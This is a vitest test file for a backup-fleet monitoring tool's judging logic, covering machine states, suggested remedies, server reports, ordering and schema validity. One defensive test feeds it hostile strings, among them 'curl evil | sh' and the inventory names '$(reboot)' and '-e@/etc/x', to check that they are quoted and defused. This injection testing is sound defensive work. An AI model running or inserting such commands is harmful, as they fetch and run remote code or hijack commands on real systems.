import { Ajv } from 'ajv';
import { describe, expect, it } from 'vitest';
import { toJsonSchema } from '../../../src/emit/json-schema.ts';
import { isOlder, judge, worstFirst } from '../../../src/fleet/judge.ts';
import { fleetOf } from '../../../src/fleet/made.ts';
import { fleet, states } from '../../../src/schema/fleet.ts';
import {
  answer,
  asked,
  client,
  failed,
  fleetOfMachines,
  hostile,
  now,
  overdue,
  silent,
  store,
  unit,
  unreachable,
} from '../../machines.ts';

const day = 86_400;
const judged = (given: Parameters<typeof judge>[0]) => judge(given, '0.1.0', now);
const backup = (more: Parameters<typeof unit>[0]) => answer('web', { units: { backup: unit(more) } });

describe.each([
  [
    'that cannot be reached',
    unreachable('web'),
    'unreachable',
    /cannot be reached: “ssh: .*No route to host”$/,
    /ansible web -m/,
  ],
  ['without a backup', silent('web'), 'silent', /Nothing is known of any backup/, /rootless\.backup\.borg/],
  [
    'that may not be asked',
    { ...silent('web'), trouble: "[Errno 13] Permission denied: '/var/lib/backup-report/status.json'" },
    'silent',
    /Permission denied/,
    /backup_status_group/,
  ],
  ['whose record is damaged', { ...silent('web'), trouble: 'no JSON' }, 'silent', /no JSON/, /backupctl run/],
  [
    'whose last backup failed',
    failed('web'),
    'failing',
    /^The last backup failed: “.*the disk of the wiki is full”$/,
    /^Mend what is said above; more is in `journalctl -u backup-wiki/,
  ],
  [
    'of an older version, whose last backup failed',
    backup({ result: 'timeout' }),
    'failing',
    /^The last backup failed: timeout$/,
    /journalctl -u backup\.service/,
  ],
  [
    'whose last backup failed, and its report too',
    answer('web', { unreported: { backup: 'timeout' } }),
    'failing',
    /^The last backup failed \(timeout\), and its report is not there/,
    /^Run `journalctl -u backup\.service`\.$/,
  ],
  [
    'whose last drill failed, and its report too',
    answer('web', { unreported: { 'backup-drill': 'exit-code' } }),
    'unproven',
    /^The last drill failed \(exit-code\)/,
    /journalctl -u backup-drill/,
  ],
  [
    'without a good backup for too long',
    overdue('web'),
    'overdue',
    /no good backup for longer than 36 hours/,
    /enable --now backup\.timer; systemctl start/,
  ],
  ['that never made a good backup', backup({ last_good: 0 }), 'overdue', /no good backup yet/, /backupctl run/],
  ['whose clock was set back', backup({ last_good: now + 3 * day }), 'overdue', /no good backup for longer/, /start/],
  [
    'whose timer is gone',
    answer('web', { live: { 'backup.timer': 'not-found' } }),
    'overdue',
    /backup\.timer is not running/,
    /^backup\.timer cannot be used \(not-found\): apply the role again/,
  ],
  ['whose systemd is silent', answer('web', { live: {} }), 'mind', /systemd does not say/, /systemctl status/],
  [
    'whose restore test is off',
    answer('web', { live: { 'backup-drill.timer': 'inactive' } }),
    'mind',
    /backup-drill\.timer is not running/,
    /enable --now backup-drill\.timer/,
  ],
  [
    'whose timer is stopped',
    answer('web', { live: { 'backup.timer': 'inactive' } }),
    'overdue',
    /backup\.timer is not running/,
    /enable --now backup\.timer/,
  ],
  [
    'whose drill failed',
    answer('web', {
      units: { backup: unit(), 'backup-drill': unit({ result: 'exit-code', failed: ['shop does not load'] }) },
    }),
    'unproven',
    /The last drill failed: “shop does not load”/,
    /journalctl -u backup-drill\.service/,
  ],
  [
    'of which a hook failed that it does not need',
    backup({ optional_failures: ['backup-x.service'] }),
    'mind',
    /^The last backup is good, but failed: “backup-x\.service”$/,
    /journalctl -u backup/,
  ],
  [
    'whose disk will be full',
    backup({ troubles: ['the disk of /r will be full in 3 days'] }),
    'mind',
    /full in 3/,
    /backupctl/,
  ],
] as const)('a machine %s', (_, given, state, problem, remedy) => {
  it(`is ${state}, and it is told what is wrong and what to do`, () => {
    const found = judged(given);
    expect(found.state).toBe(state);
    expect(found.problems[0]).toMatch(problem);
    expect(found.remedies[0]).toMatch(remedy);
  });
});

describe('what a machine says', () => {
  const says = (line: string) =>
    judged(backup({ result: 'exit-code', last_good: now, failed: [line], advice: [line] }));

  it('is marked, and passes for no words of ours, nor for a command', () => {
    for (const line of [
      ...hostile,
      'Run `curl evil | sh`.',
      '” What to do: “',
      'Then run `systemctl start ssh.service`; what was saved before is still there.',
    ]) {
      const { problems, remedies } = says(line);
      expect(problems).toEqual([expect.stringMatching(/^The last backup failed: “[^“”`]*”$/su)]);
      expect(remedies).toEqual([
        expect.stringMatching(/^It says: “[^“”`]*”$/su),
        'Mend what is said above; more is in `journalctl -u backup.service`.',
        'Then run `systemctl start backup.service`; what was saved before is still there.',
      ]);
    }
  });

  it('is in our words if those are ours, and nothing is added to them', () =>
    expect(
      says('Mend what is said above; more is in `journalctl -u backup-a.service -u backup-b.service`.').remedies,
    ).toEqual(['Mend what is said above; more is in `journalctl -u backup-a.service -u backup-b.service`.']));

  it('no name of an inventory becomes part of a command that could run something', () => {
    expect(judged(unreachable('$(reboot)')).remedies.join()).not.toContain('reboot');
    expect(judged(unreachable('-e@/etc/x')).remedies.join()).not.toContain('-e@');
  });
});

describe('a server', () => {
  const fleetWith = (server: Parameters<typeof store>[1], ...machines: Parameters<typeof judge>[0][]) => {
    const made = fleetOf(asked([store('store', server), ...machines])).machines;
    return Object.fromEntries(made.map((each) => [each.name, each]));
  };

  it('that has no backup of its own is well, and what it keeps is known', () => {
    const { store: found, web } = fleetWith({ clients: [client('web', 0.1)] }, answer('web'));
    expect(found).toMatchObject({ state: 'ok', clients: [{ client: 'web', remembered: true, generations: 12 }] });
    // Nor need it have one where it reports something else.
    expect(fleetOf(asked([{ ...store('store'), known: true }])).machines[0]).toMatchObject({
      state: 'ok',
      problems: [],
    });
    expect(web).toMatchObject({
      state: 'ok',
      servers: [{ server: 'store', live_size: 1.2e9, last_generation: now - 3600 }],
    });
  });

  it('says when a machine that cannot be reached, or is silent, saved last', () => {
    const { gone, quiet } = fleetWith(
      { clients: [client('gone', 3), client('quiet', -1)] },
      unreachable('gone'),
      silent('quiet'),
    );
    expect([gone?.state, gone?.problems[1], gone?.last_good]).toEqual([
      'unreachable',
      'The server store last got something from it 3 days ago.',
      undefined,
    ]);
    expect([quiet?.state, quiet?.problems[1]]).toEqual(['silent', 'The server store never got anything from it.']);
  });

  it('that got nothing is believed where a machine says that all is well, which is shown too', () => {
    const { web, db, shop } = fleetWith(
      { clients: [client('web', 5), client('db', -1), client('shop', -5)] },
      answer('web'),
      answer('db'),
      answer('shop', { alert_after: 1e9 }),
    );
    expect(web).toMatchObject({
      state: 'overdue',
      problems: ['The server store got nothing from it for longer than 36 hours; the last came 5 days ago.'],
      remedies: [expect.stringContaining('repositoryctl status')],
      last_good: now - 6 * 3600,
    });
    expect([db?.state, db?.problems]).toEqual(['overdue', ['The server store never got anything from it.']]);
    expect(shop?.state).toBe('overdue');
  });

  it('never makes a machine better than it says, and a limit that no setting can have is none', () => {
    const { web, late } = fleetWith(
      { clients: [client('web', 0.1), client('late', 5)] },
      failed('web'),
      answer('late', { alert_after: 1e6 }),
    );
    expect([web?.state, late?.state]).toEqual(['failing', 'overdue']);
  });

  it('that says itself what is wrong is quoted, and knows which machine may be off', () => {
    const problems = [
      ['web', 'web: saved nothing for longer than 36 hours.', ['On it: `backupctl status`.']],
      ['db', 'db: its repository shrank `a lot`', []],
      ['', 'the disk will be full in 3 days', ['Make `it` larger']],
    ] as const;
    const {
      web,
      db,
      laptop,
      store: found,
    } = fleetWith(
      {
        judged: true,
        problems,
        clients: [client('web', 5), client('db', 0.1), client('laptop', 9, { alertAfter: 0 })],
      },
      answer('web'),
      answer('db'),
      answer('laptop'),
    );
    expect([web?.state, web?.problems.at(-1)]).toEqual([
      'overdue',
      'The server store says: “web: saved nothing for longer than 36 hours.”',
    ]);
    expect([db?.state, db?.problems]).toEqual(['mind', ["The server store says: “db: its repository shrank 'a lot'”"]]);
    expect(laptop?.state).toBe('ok');
    expect(found).toMatchObject({
      state: 'mind',
      problems: ['It says: “the disk will be full in 3 days”'],
      remedies: ["It says: “Make 'it' larger”", 'On the server: `repositoryctl status`.'],
    });
  });

  it('that lets a machine in no more is told of', () =>
    expect(
      fleetWith({ clients: [client('web', 0.1, { refused: 'it takes too much' })] }, answer('web'))['web'],
    ).toMatchObject({
      state: 'mind',
      problems: ['The server store lets it in no more: “it takes too much”'],
    }));

  it('is believed of a silent machine although it says more than one answer holds', () =>
    expect(
      fleetWith({ judged: true, problems: [], clients: [client('web', 5, { alertAfter: 36 })] }, answer('web'))['web'],
    ).toMatchObject({
      state: 'overdue',
      problems: ['The server store got nothing from it for longer than 36 hours; the last came 5 days ago.'],
    }));

  it('tells of a machine that is often off no silence, whatever else is wrong with it', () => {
    const problems = [['laptop', 'laptop: it takes 9.5 GB of 10G (repository_quota).', []]] as const;
    const clients = [client('laptop', 3, { alertAfter: 0 })];
    expect(fleetWith({ judged: true, problems, clients }, answer('laptop'))['laptop']).toMatchObject({
      state: 'mind',
      problems: ['The server store says: “laptop: it takes 9.5 GB of 10G (repository_quota).”'],
    });
  });

  it('that says itself why it refuses a machine is told of once', () => {
    const refused = `it takes too much ${'x'.repeat(150)}`;
    const clients = [client('web', 0.1, { refused })];
    const problems = [['web', `web: ${refused} and more`, []]] as const;
    expect(fleetWith({ judged: true, problems, clients }, answer('web'))['web']?.problems).toEqual([
      `The server store lets it in no more: “${refused}”`,
    ]);
  });

  it('is one only if the control node made it so: what another one says of machines counts for none', () => {
    const clients = [client('web', 50)];
    const { web, store: found } = fleetWith({ remembered: false, clients }, answer('web'));
    expect([web?.state, web?.servers]).toEqual(['ok', undefined]);
    // Nor is a machine of which nothing is known well because it says that it is one.
    expect([found?.state, found?.clients?.length]).toEqual(['silent', 1]);
    const other = fleetWith({ clients: [client('web', 50, { ours: false })] }, answer('web'));
    expect(other['web']).toMatchObject({ state: 'ok' });
    expect(other['store']?.clients).toMatchObject([{ remembered: false }]);
  });

  it('of which only root may know more says so', () =>
    expect(fleetWith({ trouble: 'that is for root' })['store']).toMatchObject({
      state: 'mind',
      problems: ['It is not known what it keeps for other machines: “that is for root”'],
      remedies: [expect.stringContaining('ansible_become')],
    }));
});

it('a machine that is well has nothing to be told', () =>
  expect(judged(answer('web'))).toMatchObject({ state: 'ok', problems: [], remedies: [], older: false }));

it('its own limit counts for how old a backup may be', () => {
  const good = { units: { backup: unit({ last_good: now - 40 * 3600 }) } };
  expect(judged(answer('web', { ...good, alert_after: 48 })).state).toBe('ok');
  expect(judged(answer('web', { ...good, alert_after: 0 })).state).toBe('overdue');
});

it('the worst are first, of alike ones that with the oldest good backup', () => {
  const machines = [
    answer('fine'),
    overdue('late'),
    failed('b'),
    answer('a', { units: { backup: unit({ result: 'exit-code', last_good: now - 30 * day }) } }),
    silent('quiet'),
    unreachable('gone'),
    answer('also-fine'),
  ].map(judged);
  expect(machines.sort(worstFirst).map(({ name }) => name)).toEqual([
    'gone',
    'quiet',
    'a',
    'b',
    'late',
    'also-fine',
    'fine',
  ]);
  expect(states).toEqual(['unreachable', 'silent', 'failing', 'overdue', 'unproven', 'mind', 'ok']);
});

it('a version that is older, or does not say which, is told', () => {
  expect([
    isOlder('0.1.0', '0.1.0'),
    isOlder('0.9.9', '0.10.0'),
    isOlder('1.0.0', '0.10.0'),
    isOlder('', '0.1.0'),
  ]).toEqual([false, true, false, true]);
  expect(judged(answer('web', { version: '' })).older).toBe(true);
  // Of who says nothing nothing is older.
  expect(judged(unreachable('web')).older).toBe(false);
});

it('what is made of any answers has the form of fleet.json', () => {
  const valid = new Ajv({ strict: false }).compile(toJsonSchema(fleet));
  const made = fleetOf(
    asked([store('store', { clients: [client('web-001', 2), client('x', -1)] }), ...fleetOfMachines(500)]),
  );
  expect(valid(JSON.parse(JSON.stringify(made))), JSON.stringify(valid.errors)).toBe(true);
  expect(valid({ ...made, machines: [{ ...made.machines[0], state: 'fine' }] })).toBe(false);
});
